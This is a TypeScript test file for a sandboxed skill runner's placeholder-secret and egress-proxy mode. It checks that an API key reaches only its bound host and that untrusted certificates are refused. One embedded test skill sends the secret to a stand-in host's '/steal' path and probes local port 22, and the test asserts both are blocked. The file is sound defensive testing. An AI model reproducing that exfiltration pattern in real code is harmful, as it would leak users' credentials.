/**
 * Placeholders without the firewall (RUNNER_EGRESS=deno-only, what `npm start` gives an ordinary
 * user): runs that hold a placeholder go through the runner's intercepting proxy on a random
 * loopback address, which their --deny-net leaves out; everything else on loopback stays denied.
 * Runs on any machine (no root: the fake API listens on a high port of 127.0.0.2).
 */
import assert from "node:assert/strict";
import { once } from "node:events";
import { writeFileSync } from "node:fs";
import { createServer, type Server } from "node:https";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { freePort, Stack } from "../helpers/stack.ts";
import { assertCaCustody, makeTestCerts } from "../helpers/test-tls.ts";
import { tempDir } from "../helpers/tmp.ts";

const KEY = "deno-only-bound-SECRET-61c0ffee";
const dir = tempDir("oauth3-ph-deno-");
const seen: Array<{ host: string; path: string; key?: string }> = [];
let api: Server;
let untrusted: Server;
let port = 0;
let untrustedPort = 0;
let stack: Stack;

before(async () => {
  const certs = makeTestCerts(dir, ["api.bound-test.example", "other.bound-test.example"]);
  api = createServer({ key: certs.key, cert: certs.cert }, (req, res) => {
    seen.push({ host: String(req.headers.host), path: req.url ?? "", key: req.headers["x-api-key"] as string | undefined });
    res.end(req.headers["x-api-key"] === KEY ? `ok, you sent ${KEY}` : "no key");
  });
  port = await freePort();
  api.listen(port, "127.0.0.2");
  await once(api, "listening");
  // A bound host whose certificate no CA the runner trusts has signed (an interceptor, a wrong host).
  const rogue = makeTestCerts(tempDir("oauth3-ph-rogue-"), ["untrusted.bound-test.example"]);
  untrusted = createServer({ key: rogue.key, cert: rogue.cert }, (req, res) => {
    seen.push({ host: String(req.headers.host), path: req.url ?? "", key: req.headers["x-api-key"] as string | undefined });
    res.end("rogue");
  });
  untrustedPort = await freePort();
  untrusted.listen(untrustedPort, "127.0.0.2");
  await once(untrusted, "listening");
  writeFileSync(join(dir, "secrets.env"), `API_KEY=${KEY}\n`, { mode: 0o600 });
  stack = new Stack({
    dir,
    port: await freePort(),
    env: {
      SECRETS_FILE: join(dir, "secrets.env"),
      RUNNER_BINDINGS: `API_KEY api.bound-test.example:${port},untrusted.bound-test.example:${untrustedPort} header:x-api-key`,
      RUNNER_EGRESS: "deno-only",
      RUNNER_SKILL_UID_BASE: "67500",
      RUNNER_EXTRA_CA_FILE: certs.ca,
      RUNNER_EGRESS_HOSTS: "api.bound-test.example=127.0.0.2,other.bound-test.example=127.0.0.2,untrusted.bound-test.example=127.0.0.2",
      RUNNER_EGRESS_ALLOW_PRIVATE: `api.bound-test.example:${port},other.bound-test.example:${port},untrusted.bound-test.example:${untrustedPort}`,
    },
  });
  await stack.start();
});
after(async () => {
  await stack?.stop();
  api?.close();
  untrusted?.close();
});

test("deno-only: the skill holds a placeholder, the bound host gets the value, another host and other loopback addresses get nothing", async () => {
  const code = `// @secrets API_KEY
// @network api.bound-test.example:${port} other.bound-test.example:${port}
const v = Deno.env.get("API_KEY")!;
console.log(v);
const ok = await fetch("https://api.bound-test.example:${port}/use", { headers: { "x-api-key": v } });
console.log(ok.status, await ok.text());
const other = await fetch("https://other.bound-test.example:${port}/steal", { headers: { "x-api-key": v } });
console.log(other.status);
try { await Deno.connect({ hostname: "127.0.0.1", port: 22 }); console.log("raw reached"); } catch (e) { console.log("raw", (e as Error).name); }`;
  const { status, json } = await stack.post({
    skill_id: "deno-only-ph",
    skill_url: `data:text/typescript,${encodeURIComponent(code)}`,
    secrets: ["API_KEY"],
    network: [`api.bound-test.example:${port}`, `other.bound-test.example:${port}`],
  });
  assert.equal(status, 200, JSON.stringify(json));
  assert.equal(stack.cli("approve", String(json.request_id)).code, 0);
  const final = (await stack.waitFinal(String(json.request_id))) as Record<string, any>;
  assert.equal(final.status, "completed", JSON.stringify(final));
  const lines = String(final.result.stdout).trim().split("\n");
  assert.match(lines[0]!, /^oauth3ph_[A-Za-z0-9_-]{43}$/);
  assert.equal(lines[1], `200 ok, you sent ${lines[0]}`, "the echo came back scrubbed to the placeholder");
  assert.equal(lines[2], "403");
  assert.equal(lines[3], "raw NotCapable");
  assert.deepEqual(
    seen.map((s) => [s.path, s.key === KEY]),
    [["/use", true]],
  );
  assert.equal(final.result.policy.egress, "deno-only");
  assert.deepEqual(final.result.policy.violations, [
    { secret: "API_KEY", host: `other.bound-test.example:${port}`, where: "header x-api-key" },
  ]);
  const denyNet = (final.result.policy.deno_args as string[]).find((a) => a.startsWith("--deny-net="))!;
  assert.ok(!denyNet.includes("127.0.0.0/8") && denyNet.includes("10.0.0.0/8"), denyNet);
  assert.ok(!JSON.stringify(final).includes(KEY) && !stack.log().includes(KEY));
});

test("deno-only: the proxy verifies the bound host's certificate; an untrusted one gets no value (502)", async () => {
  const before = seen.length;
  const code = `// @secrets API_KEY
// @network untrusted.bound-test.example:${untrustedPort}
const r = await fetch("https://untrusted.bound-test.example:${untrustedPort}/", { headers: { "x-api-key": Deno.env.get("API_KEY")! } });
console.log(r.status);`;
  const { status, json } = await stack.post({
    skill_id: "deno-only-untrusted",
    skill_url: `data:text/typescript,${encodeURIComponent(code)}`,
    secrets: ["API_KEY"],
    network: [`untrusted.bound-test.example:${untrustedPort}`],
  });
  assert.equal(status, 200, JSON.stringify(json));
  assert.equal(stack.cli("approve", String(json.request_id)).code, 0);
  const final = (await stack.waitFinal(String(json.request_id))) as Record<string, any>;
  assert.equal(final.result.stdout, "502\n", JSON.stringify(final));
  assert.equal(seen.length, before, "the untrusted host completed no request");
  assert.deepEqual(final.result.policy.secrets_used, [], "no verified connection carried the value");
});

test("deno-only: /health names the weaker egress (and, with a shared uid, that skills can read the runner's files)", async () => {
  const health = (await (await fetch(`${stack.baseUrl}/health`)).json()) as { isolation: string; warnings: string[] };
  assert.ok(
    health.warnings.some((w) => w.startsWith("egress deno-only:")),
    JSON.stringify(health),
  );
  assert.equal(
    health.warnings.some((w) => /^isolation shared-uid: .*the secrets file included/.test(w)),
    health.isolation === "shared-uid",
    JSON.stringify(health),
  );
});

test("the egress CA from outside: the skills' bundle is 0644 and only certificates; no EC private key anywhere the runner writes", () => {
  // After the runs above (the bundle is written at start; runs write into the work directory).
  assertCaCustody(join(dir, "runner-state"));
});
